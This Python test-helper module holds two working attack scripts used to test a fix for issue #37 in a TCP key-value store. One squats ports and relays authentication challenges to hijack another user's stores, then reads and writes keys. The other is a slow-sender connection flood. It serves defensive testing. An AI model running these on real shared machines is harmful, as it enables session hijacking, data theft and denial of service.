"""Another user against the TCP stores of a victim's runs (issue #37), as scripts the attacker runs. Used by
``tests/unit/test_shared_stores.py`` and ``benchmarks/store_attacks.py``.

``SQUAT_AND_RELAY`` (the attacker, Bob) does, until its stop file appears, everything the report of issue #37
did by hand:

- squats every address the victim's ranks or agents might connect to: the ports a Slurm job's ``MASTER_PORT``
  used to be derived from (``random.Random(job_id)``, for the next job ids: with submitit's local executor the
  job id is its controller's pid), and every port the victim listened on, as soon as it is free again (a stale
  endpoint in an agent command, an elastic round's probed port);
- relays every connection the victim's processes make to one of his ports to a live gpumagic store of the
  victim (found in ``/proc/net/tcp``): the store's challenge to the captured process, its answer to the store.
  If the store accepts, he lists and reads its keys and writes one of his own, with the framing of gpumagic
  before issue #37 (after it, every frame needs the session's tag).

It prints ``ready`` with the port a stale endpoint may be pointed at, then one JSON report at the end.

``FLOOD`` opens connections to one port as fast as it can, keeps each open and sends one byte a second on
each (slow senders), reconnecting what the server drops, until its stop file appears; it prints its counts.
"""

from __future__ import annotations

SQUAT_AND_RELAY = r"""
import json, os, random, resource, selectors, socket, struct, sys, threading, time
victim, stop = int(sys.argv[1]), sys.argv[2]
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
report = {"squatted": 0, "captured": 0, "relayed_to_stores": 0, "accepted": 0, "keys_read": [], "keys_written": 0}
selector = selectors.DefaultSelector()
held = {}  # port -> listening socket of Bob's
lock = threading.Lock()


def squat(port):
    if port in held:
        return
    try:
        s = socket.socket()
    except OSError:
        return  # out of descriptors
    try:
        s.bind(("127.0.0.1", port))
        s.listen(64)
        s.setblocking(False)
    except OSError:
        s.close()
        return
    held[port] = s
    selector.register(s, selectors.EVENT_READ)
    report["squatted"] += 1


def alice_listeners():
    found = set()
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        fields = line.split()
        if fields[3] == "0A" and int(fields[7]) == victim:
            found.add(int(fields[1].rsplit(":", 1)[1], 16))
    return found


def exactly(connection, size):
    data = b""
    while len(data) < size:
        chunk = connection.recv(size - len(data))
        if not chunk:
            raise ConnectionError("closed")
        data += chunk
    return data


def frame(code, fields):  # gpumagic's framing before issue #37: no tag
    body = b"".join(struct.pack("!I", len(f)) + f for f in fields)
    return struct.pack("!IBI", len(body) + 5, code, len(fields)) + body


def reply(connection):
    (size,) = struct.unpack("!I", exactly(connection, 4))
    body = exactly(connection, size)
    code, count = struct.unpack_from("!BI", body)
    fields, at = [], 5
    for _ in range(count):
        (length,) = struct.unpack_from("!I", body, at)
        fields.append(body[at + 4 : at + 4 + length])
        at += 4 + length
    return code, fields


known_stores, classified = set(), set()


def classify(port):  # in its own thread: a listener that is not a store says nothing for 1 s
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as probe:
            if exactly(probe, 16).startswith(b"GPUMAGIC-STORE/"):
                with lock:
                    known_stores.add(port)
    except OSError:
        pass


def stores():
    found = []
    for port in sorted(known_stores & alice_listeners()):
        try:
            store = socket.create_connection(("127.0.0.1", port), timeout=2)
            found.append((store, exactly(store, 48)))
        except OSError:
            continue
    return found


def relay(captured, turn):
    captured.settimeout(5)
    found = stores()
    if not found:
        return
    store, challenge = found[turn % len(found)]  # each capture to the next store of the victim's
    for other, _ in found:
        if other is not store:
            other.close()
    with lock:
        report["relayed_to_stores"] += 1
    try:
        captured.sendall(challenge)
        store.sendall(exactly(captured, 80))
        proof = exactly(store, 32)
    except OSError:
        store.close()
        captured.close()
        return  # the store did not accept the forwarded proof, or the captured process gave up
    with lock:
        report["accepted"] += 1
    try:
        captured.sendall(proof)
        store.sendall(frame(11, []))  # LIST_KEYS
        code, keys = reply(store)
        if code == 0:
            with lock:
                report["keys_read"] += [k.decode(errors="replace") for k in keys]
        store.sendall(frame(0, [b"bob-was-here", b"1"]))  # SET
        code, _ = reply(store)
        if code == 0:
            with lock:
                report["keys_written"] += 1
    except (OSError, struct.error):
        pass


next_pid = int(open("/proc/sys/kernel/ns_last_pid").read()) + 1
for pid in range(next_pid, next_pid + 3000):  # the job ids submitit's local executor will give out next
    squat(random.Random(str(pid)).randint(20000, 60000))
stale = socket.socket()
stale.bind(("127.0.0.1", 0))
stale_port = stale.getsockname()[1]
stale.close()
squat(stale_port)
print("ready", stale_port, flush=True)

seen = set()
last_scan = 0.0
while not os.path.exists(stop):
    for key, _ in selector.select(0.002):
        try:
            connection, _ = key.fileobj.accept()
        except OSError:
            continue
        report["captured"] += 1
        threading.Thread(target=relay, args=(connection, report["captured"]), daemon=True).start()
    if time.monotonic() - last_scan > 0.002:
        last_scan = time.monotonic()
        listening = alice_listeners()
        for port in seen - listening:  # Alice stopped listening there: take it
            squat(port)
        for port in listening - classified - set(held):
            classified.add(port)
            threading.Thread(target=classify, args=(port,), daemon=True).start()
        seen |= listening
time.sleep(1)
print(json.dumps(report), flush=True)
os._exit(0)
"""

FLOOD = r"""
import errno, json, os, resource, selectors, socket, sys, time
port, stop = int(sys.argv[1]), sys.argv[2]
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
most = min(hard - 64, 20000)
open_now, opened, dropped, started = {}, 0, 0, time.monotonic()
selector = selectors.DefaultSelector()
print("ready", flush=True)
last_byte = time.monotonic()
while not os.path.exists(stop):
    slice_end = time.monotonic() + 0.05  # connect as fast as it can, but keep every connection's heartbeat
    while len(open_now) < most and time.monotonic() < slice_end:
        s = socket.socket()
        s.setblocking(False)
        try:
            s.connect(("127.0.0.1", port))
        except BlockingIOError:
            pass
        except OSError as err:
            s.close()
            if err.errno in (errno.EADDRNOTAVAIL, errno.EMFILE):
                break
            continue
        open_now[s.fileno()] = s
        selector.register(s, selectors.EVENT_READ)
        opened += 1
    for key, _ in selector.select(0):
        s = key.fileobj
        try:
            if s.recv(4096):
                continue
        except BlockingIOError:
            continue
        except OSError:
            pass
        selector.unregister(s)
        del open_now[s.fileno()]
        s.close()
        dropped += 1
    if time.monotonic() - last_byte >= 0.5:  # a slow sender: a byte every half second on each
        last_byte = time.monotonic()
        for s in list(open_now.values()):
            try:
                s.send(b"x")
            except OSError:
                pass
took = time.monotonic() - started
print(json.dumps({"opened": opened, "dropped": dropped, "seconds": round(took, 1), "open_at_end": len(open_now)}),
      flush=True)
os._exit(0)
"""
